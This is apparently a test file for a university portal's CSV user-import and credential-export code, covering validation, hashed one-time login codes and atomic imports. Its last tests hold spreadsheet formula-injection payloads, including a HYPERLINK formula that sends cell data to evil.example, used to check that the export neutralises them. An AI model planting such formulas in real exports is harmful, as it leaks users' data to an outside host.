import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
import { parseCsv } from '../../lib/csv';
import { createSqliteStore } from '../../store/sqlite/sqlite';
import type { Store } from '../../store/types';
import { CLI_ACTOR } from '../audit/record';
import { hashLoginCode, normaliseLoginCode } from './codes';
import { applyImport, credentialsCsv, planImport, validateImportCsv, type ImportRow, type RowError } from './import';

const NOW = new Date('2026-06-01T12:00:00Z');
const HEADER = 'email,name,role,date_of_birth,matric_no\n';
const DAY = 86_400_000;

/** Validates and expects failure; returns the errors. */
function errorsOf(text: string): RowError[] {
  const v = validateImportCsv(text, NOW);
  if (v.ok) throw new Error(`expected the file to be rejected, got ${v.rows.length} valid row(s)`);
  return v.errors;
}

/** Validates and expects success; returns the rows. */
function rowsOf(text: string): ImportRow[] {
  const v = validateImportCsv(text, NOW);
  if (!v.ok) throw new Error(`expected the file to be accepted, got: ${JSON.stringify(v.errors)}`);
  return v.rows;
}

describe('validateImportCsv: well-formed files', () => {
  test('accepts a full file and returns one row per record with its line number', () => {
    const rows = rowsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,student,2005-04-01,190401001\nbola@unilag.edu.ng,Bola Ade,lecturer,,\n');
    expect(rows).toEqual([
      { line: 2, email: 'ada@unilag.edu.ng', name: 'Ada Obi', role: 'student', dateOfBirth: '2005-04-01', matricNo: '190401001', roleGiven: true },
      { line: 3, email: 'bola@unilag.edu.ng', name: 'Bola Ade', role: 'lecturer', dateOfBirth: null, matricNo: null, roleGiven: true },
    ]);
  });

  test('only email and name are required; columns may come in any order and header case', () => {
    const rows = rowsOf(' Name , EMAIL \n"Obi, Ada",ada@unilag.edu.ng\n');
    expect(rows).toEqual([{ line: 2, email: 'ada@unilag.edu.ng', name: 'Obi, Ada', role: 'student', dateOfBirth: null, matricNo: null, roleGiven: false }]);
  });

  test('a blank role defaults to student (and is marked as not given)', () => {
    const [row] = rowsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\n');
    expect(row!.role).toBe('student');
    expect(row!.roleGiven).toBe(false);
  });

  test('roles are case-insensitive', () => {
    expect(rowsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi, Admin ,,\n')[0]!.role).toBe('admin');
  });

  test('accepts a UTF-8 BOM and CRLF line ends (Excel "CSV UTF-8")', () => {
    const rows = rowsOf('\uFEFFemail,name,role\r\nada@unilag.edu.ng,Ada Obi,student\r\nbola@unilag.edu.ng,Bola Ade,lecturer\r\n');
    expect(rows.map((r) => [r.line, r.email, r.name, r.role])).toEqual([
      [2, 'ada@unilag.edu.ng', 'Ada Obi', 'student'],
      [3, 'bola@unilag.edu.ng', 'Bola Ade', 'lecturer'],
    ]);
  });

  test('skips blank lines but keeps the real line numbers', () => {
    const rows = rowsOf(HEADER + '\nada@unilag.edu.ng,Ada Obi,,,\n\n\nbola@unilag.edu.ng,Bola Ade,,,\n');
    expect(rows.map((r) => r.line)).toEqual([3, 6]);
  });

  test('trims spaces around cells', () => {
    const [row] = rowsOf(HEADER + '  ada@unilag.edu.ng  ,  Ada Obi  , student , 2005-04-01 , 19/04 \n');
    expect(row).toMatchObject({ email: 'ada@unilag.edu.ng', name: 'Ada Obi', role: 'student', dateOfBirth: '2005-04-01', matricNo: '19/04' });
  });

  test('a header with no data rows is valid and yields no rows', () => {
    expect(rowsOf(HEADER)).toEqual([]);
  });
});

describe('validateImportCsv: malformed CSV', () => {
  test('an unclosed quote is reported at the line where the record starts', () => {
    expect(errorsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\nbola@unilag.edu.ng,"Bola Ade,,,\ncid@unilag.edu.ng,Cid,,,\n')).toEqual([
      { line: 3, reason: 'a quoted field is never closed' },
    ]);
  });

  test('a stray quote inside an unquoted field is reported with its line', () => {
    const errors = errorsOf(HEADER + 'ada@unilag.edu.ng,Ada "The Boss" Obi,,,\n');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.line).toBe(2);
    expect(errors[0]!.reason).toContain('quote inside an unquoted field');
    expect(errors[0]!.reason).not.toMatch(/^line \d+/); // the line is in .line, not repeated in the text
  });

  test('text after a closing quote is reported with its line', () => {
    const errors = errorsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\nbola@unilag.edu.ng,"Bola" Ade,,,\n');
    expect(errors).toEqual([{ line: 3, reason: 'unexpected character after a closing quote' }]);
  });

  test('an empty file is rejected with a hint about the header', () => {
    for (const text of ['', '\uFEFF', '\n\r\n\n']) {
      const errors = errorsOf(text);
      expect(errors).toHaveLength(1);
      expect(errors[0]!.line).toBe(1);
      expect(errors[0]!.reason).toContain('empty');
      expect(errors[0]!.reason).toContain('email,name');
    }
  });

  test('missing required columns are named', () => {
    expect(errorsOf('name,role\nAda Obi,student\n')).toEqual([{ line: 1, reason: 'missing required column "email"' }]);
    expect(errorsOf('email,role\nada@unilag.edu.ng,student\n')).toEqual([{ line: 1, reason: 'missing required column "name"' }]);
    expect(errorsOf('role\nstudent\n').map((e) => e.reason)).toEqual(['missing required column "email"', 'missing required column "name"']);
  });

  test('unknown columns are named together with the allowed ones', () => {
    const errors = errorsOf('email,name,phone,Department\nada@unilag.edu.ng,Ada Obi,0803,CS\n');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.line).toBe(1);
    expect(errors[0]!.reason).toContain('"phone"');
    expect(errors[0]!.reason).toContain('"department"');
    expect(errors[0]!.reason).toContain('allowed: email, name, role, date_of_birth, matric_no');
  });

  test('a repeated column is rejected', () => {
    expect(errorsOf('email,name,email\na@x.ng,A,b@x.ng\n')).toEqual([{ line: 1, reason: 'column(s) repeated: email' }]);
  });

  test('a header typo on a data file reports the header, not every row', () => {
    const errors = errorsOf('emial,name\nada@unilag.edu.ng,Ada\nbola@unilag.edu.ng,Bola\n');
    expect(errors.every((e) => e.line === 1)).toBe(true);
  });

  test('rows with too few or too many fields are reported with both counts', () => {
    const errors = errorsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,student,,\nbola@unilag.edu.ng,Bola Ade\ncid@unilag.edu.ng,Cid Eze,student,,,extra\n');
    expect(errors).toEqual([
      { line: 3, reason: 'has 2 fields, the header has 5' },
      { line: 4, reason: 'has 6 fields, the header has 5' },
    ]);
  });
});

describe('validateImportCsv: bad rows', () => {
  test('bad email addresses', () => {
    const errors = errorsOf(HEADER + 'ada.unilag.edu.ng,Ada,,,\nbola@unilag,Bola,,,\ncid @unilag.edu.ng,Cid,,,\n,Dayo,,,\n');
    expect(errors).toEqual([
      { line: 2, reason: '"ada.unilag.edu.ng" is not a valid email address' },
      { line: 3, reason: '"bola@unilag" is not a valid email address' },
      { line: 4, reason: '"cid @unilag.edu.ng" is not a valid email address' },
      { line: 5, reason: 'email is required' },
    ]);
  });

  test('a missing name', () => {
    expect(errorsOf(HEADER + 'ada@unilag.edu.ng,  ,,,\n')).toEqual([{ line: 2, reason: 'name is required' }]);
  });

  test('dates of birth: impossible dates, other formats and future dates', () => {
    const errors = errorsOf(HEADER + 'a@x.ng,A,,2010-02-30,\nb@x.ng,B,,10/05/2009,\nc@x.ng,C,,2026-06-02,\nd@x.ng,D,,1899-12-31,\n');
    expect(errors).toEqual([
      { line: 2, reason: 'date of birth "2010-02-30" is not a real date' },
      { line: 3, reason: 'date of birth "10/05/2009" must be written YYYY-MM-DD' },
      { line: 4, reason: 'date of birth "2026-06-02" is out of range' },
      { line: 5, reason: 'date of birth "1899-12-31" is out of range' },
    ]);
  });

  test('unknown roles', () => {
    expect(errorsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,teacher,,\n')).toEqual([{ line: 2, reason: 'unknown role "teacher" (use student, lecturer or admin)' }]);
  });

  test('bad matric numbers', () => {
    const errors = errorsOf(HEADER + 'a@x.ng,A,,,19 04 01\nb@x.ng,B,,,' + '9'.repeat(33) + '\n');
    expect(errors.map((e) => e.line)).toEqual([2, 3]);
    expect(errors[0]!.reason).toContain('may contain only');
    expect(errors[1]!.reason).toContain('longer than 32');
  });

  test('a duplicate email inside the file (any case) names both lines', () => {
    const errors = errorsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\nbola@unilag.edu.ng,Bola,,,\nADA@Unilag.edu.ng,Ada Again,,,\n');
    expect(errors).toEqual([{ line: 4, reason: 'duplicate email ADA@Unilag.edu.ng (also on line 2)' }]);
  });

  test('several problems in one row are all listed', () => {
    const errors = errorsOf(HEADER + 'not-an-email,,wizard,2010-13-01,\n');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.line).toBe(2);
    for (const part of ['"not-an-email" is not a valid email address', 'name is required', 'unknown role "wizard"', 'date of birth "2010-13-01" is not a real date']) {
      expect(errors[0]!.reason).toContain(part);
    }
  });

  test('every bad row is reported in one result, each with its line, and good rows are not', () => {
    const text =
      HEADER +
      'good1@unilag.edu.ng,Good One,,,\n' + // 2 ok
      'bad-email,Bad Email,,,\n' + // 3
      'good2@unilag.edu.ng,Good Two,lecturer,,\n' + // 4 ok
      'role@unilag.edu.ng,Bad Role,janitor,,\n' + // 5
      'date@unilag.edu.ng,Bad Date,,2010-02-30,\n' + // 6
      'good1@UNILAG.edu.ng,Dup,,,\n' + // 7
      'short@unilag.edu.ng,Short\n' + // 8
      '"multi@unilag.edu.ng","Multi\nLine",,,\n' + // 9-10: a newline inside a quoted name
      '"quoted@unilag.edu.ng","Eze, Quoted",,,\n' + // 11 ok
      'last@unilag.edu.ng,Last,,3000-01-01,\n'; // 12
    const errors = errorsOf(text);
    expect(errors.map((e) => e.line)).toEqual([3, 5, 6, 7, 8, 9, 12]);
    expect(errors.find((e) => e.line === 7)!.reason).toContain('also on line 2');
    expect(errors.find((e) => e.line === 9)!.reason).toBe('name contains control characters');
  });
});

describe('planImport, applyImport', () => {
  let store: Store;
  beforeEach(() => {
    store = createSqliteStore(null);
  });
  afterEach(async () => {
    await store.close();
  });

  const TTL = 14 * DAY;
  const T0 = Date.parse('2026-06-01T12:00:00Z');

  async function importText(text: string, opts: { update?: boolean; now?: number } = {}) {
    const plan = await planImport(store, rowsOf(text), { update: Boolean(opts.update) });
    const creds = await applyImport(store, plan, { codeTtlMs: TTL, actor: CLI_ACTOR, now: opts.now ?? T0 });
    return { plan, creds };
  }

  test('creates users who must set a password, with a one-time code that expires after the TTL', async () => {
    const { plan, creds } = await importText(HEADER + 'ada@unilag.edu.ng,Ada Obi,student,2005-04-01,190401001\nbola@unilag.edu.ng,Bola Ade,lecturer,,\n');
    expect(plan.create).toHaveLength(2);
    expect(creds.map((c) => [c.email, c.name, c.expiresAt])).toEqual([
      ['ada@unilag.edu.ng', 'Ada Obi', T0 + TTL],
      ['bola@unilag.edu.ng', 'Bola Ade', T0 + TTL],
    ]);
    const ada = (await store.users.byEmail('ada@unilag.edu.ng'))!;
    expect(ada).toMatchObject({
      name: 'Ada Obi',
      role: 'student',
      dateOfBirth: '2005-04-01',
      matricNo: '190401001',
      status: 'active',
      passwordHash: null,
      mustSetPassword: true,
      minorOverride: null,
      loginCodeExpiresAt: T0 + TTL,
      createdAt: T0,
    });
    const bola = (await store.users.byEmail('bola@unilag.edu.ng'))!;
    expect(bola).toMatchObject({ role: 'lecturer', dateOfBirth: null, matricNo: null, mustSetPassword: true });
  });

  test('the store keeps only a hash of each code, never the code itself', async () => {
    const { creds } = await importText(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\nbola@unilag.edu.ng,Bola Ade,,,\n');
    expect(new Set(creds.map((c) => c.loginCode)).size).toBe(2);
    for (const c of creds) {
      expect(c.loginCode).toMatch(/^[2-9A-HJ-NP-Z]{4}(-[2-9A-HJ-NP-Z]{4}){4}$/);
      const user = (await store.users.byEmail(c.email))!;
      expect(user.loginCodeHash).toBe(hashLoginCode(normaliseLoginCode(c.loginCode)!));
      const stored = JSON.stringify(user);
      expect(stored).not.toContain(c.loginCode);
      expect(stored).not.toContain(normaliseLoginCode(c.loginCode)!);
    }
    const audit = JSON.stringify(await store.audit.list());
    for (const c of creds) expect(audit).not.toContain(normaliseLoginCode(c.loginCode)!);
  });

  test('existing emails (any case) are skipped and keep their data and code', async () => {
    await importText(HEADER + 'ada@unilag.edu.ng,Ada Obi,student,2005-04-01,190401001\n');
    const before = (await store.users.byEmail('ada@unilag.edu.ng'))!;
    const { plan, creds } = await importText(HEADER + 'ADA@unilag.edu.ng,Someone Else,admin,2000-01-01,X1\nnew@unilag.edu.ng,New Person,,,\n');
    expect(plan.skip.map((s) => s.row.email)).toEqual(['ADA@unilag.edu.ng']);
    expect(plan.update).toEqual([]);
    expect(creds.map((c) => c.email)).toEqual(['new@unilag.edu.ng']);
    expect(await store.users.byEmail('ada@unilag.edu.ng')).toEqual(before);
    expect(await store.users.count()).toBe(2);
  });

  test('with update, existing users get the stated fields and no new code', async () => {
    await importText(HEADER + 'ada@unilag.edu.ng,Ada Obi,student,2005-04-01,190401001\n');
    const before = (await store.users.byEmail('ada@unilag.edu.ng'))!;
    const { plan, creds } = await importText(HEADER + 'ada@unilag.edu.ng,Ada Obi-Eze,lecturer,2004-04-01,NEW/1\n', { update: true });
    expect(plan.update.map((u) => u.user.id)).toEqual([before.id]);
    expect(creds).toEqual([]);
    const after = (await store.users.byEmail('ada@unilag.edu.ng'))!;
    expect(after).toMatchObject({ name: 'Ada Obi-Eze', role: 'lecturer', dateOfBirth: '2004-04-01', matricNo: 'NEW/1' });
    expect(after.loginCodeHash).toBe(before.loginCodeHash);
    expect(after.createdAt).toBe(before.createdAt);
  });

  test('with update, blank optional cells and absent columns leave stored values unchanged', async () => {
    await importText(HEADER + 'ada@unilag.edu.ng,Ada Obi,lecturer,2005-04-01,190401001\nbola@unilag.edu.ng,Bola Ade,admin,2001-01-01,B1\n');
    await importText(HEADER + 'ada@unilag.edu.ng,Ada Renamed,,,\n', { update: true });
    expect(await store.users.byEmail('ada@unilag.edu.ng')).toMatchObject({ name: 'Ada Renamed', role: 'lecturer', dateOfBirth: '2005-04-01', matricNo: '190401001' });
    await importText('email,name\nbola@unilag.edu.ng,Bola Renamed\n', { update: true });
    expect(await store.users.byEmail('bola@unilag.edu.ng')).toMatchObject({ name: 'Bola Renamed', role: 'admin', dateOfBirth: '2001-01-01', matricNo: 'B1' });
  });

  test('records one user.import audit entry with the counts', async () => {
    await importText(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\n');
    await importText(HEADER + 'ada@unilag.edu.ng,Ada,,,\nb@unilag.edu.ng,B,,,\nc@unilag.edu.ng,C,,,\n');
    const entries = await store.audit.list({ action: 'user.import' });
    expect(entries).toHaveLength(2);
    expect(entries[1]).toMatchObject({ action: 'user.import', actorId: null, origin: 'cli', details: { created: 2, updated: 0, skipped: 1 } });
  });

  test('beforeWrite receives the codes first; if it throws, no user and no audit entry is written', async () => {
    const plan = await planImport(store, rowsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\nbola@unilag.edu.ng,Bola Ade,,,\n'), { update: false });
    let seen: string[] = [];
    const attempt = applyImport(store, plan, {
      codeTtlMs: TTL,
      actor: CLI_ACTOR,
      beforeWrite: async (creds) => {
        seen = creds.map((c) => c.email);
        expect(await store.users.count()).toBe(0); // called before anything is written
        throw new Error('disk full');
      },
    });
    await expect(attempt).rejects.toThrow('disk full');
    expect(seen).toEqual(['ada@unilag.edu.ng', 'bola@unilag.edu.ng']);
    expect(await store.users.count()).toBe(0);
    expect(await store.audit.list()).toEqual([]);
  });

  test('the batch is atomic: an email created after planning makes the whole import fail', async () => {
    const plan = await planImport(store, rowsOf(HEADER + 'ada@unilag.edu.ng,Ada Obi,,,\nbola@unilag.edu.ng,Bola Ade,,,\n'), { update: false });
    await importText(HEADER + 'BOLA@unilag.edu.ng,Bola (elsewhere),,,\n'); // e.g. an admin in the portal meanwhile
    await expect(applyImport(store, plan, { codeTtlMs: TTL, actor: CLI_ACTOR })).rejects.toThrow(/already exists/);
    expect(await store.users.byEmail('ada@unilag.edu.ng')).toBeNull();
    expect(await store.users.count()).toBe(1);
  });
});

describe('credentialsCsv', () => {
  const expiresAt = Date.parse('2026-06-15T12:00:00Z');

  test('one row per credential under a header, with ISO expiry, CRLF line ends', () => {
    const csv = credentialsCsv([{ email: 'ada@unilag.edu.ng', name: 'Obi, Ada', loginCode: 'ABCD-EFGH-JKLM-NPQR-STUV', expiresAt }]);
    expect(csv).toBe('email,name,login_code,expires_at\r\nada@unilag.edu.ng,"Obi, Ada",ABCD-EFGH-JKLM-NPQR-STUV,2026-06-15T12:00:00.000Z\r\n');
  });

  test('an empty list is just the header', () => {
    expect(credentialsCsv([])).toBe('email,name,login_code,expires_at\r\n');
  });

  test('neutralises cells a spreadsheet would run as a formula (= + - @)', () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+2+3', '-1+1', '@SUM(A1:A9)'];
    const csv = credentialsCsv(names.map((name, i) => ({ email: `u${i}@unilag.edu.ng`, name, loginCode: 'ABCD-EFGH-JKLM-NPQR-STUV', expiresAt })));
    const [header, ...rows] = parseCsv(csv);
    expect(header!.fields).toEqual(['email', 'name', 'login_code', 'expires_at']);
    expect(rows.map((r) => r.fields[1])).toEqual(names.map((n) => `'${n}`));
    for (const r of rows) for (const cell of r.fields) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  test('a formula name that passes import validation comes out neutralised end to end', () => {
    const [row] = rowsOf(HEADER + 'ada@unilag.edu.ng,"=HYPERLINK(""http://evil.example"",""x"")",,,\n');
    expect(row!.name).toBe('=HYPERLINK("http://evil.example","x")');
    const csv = credentialsCsv([{ email: row!.email, name: row!.name, loginCode: 'ABCD-EFGH-JKLM-NPQR-STUV', expiresAt }]);
    expect(parseCsv(csv)[1]!.fields[1]).toBe(`'=HYPERLINK("http://evil.example","x")`);
  });
});
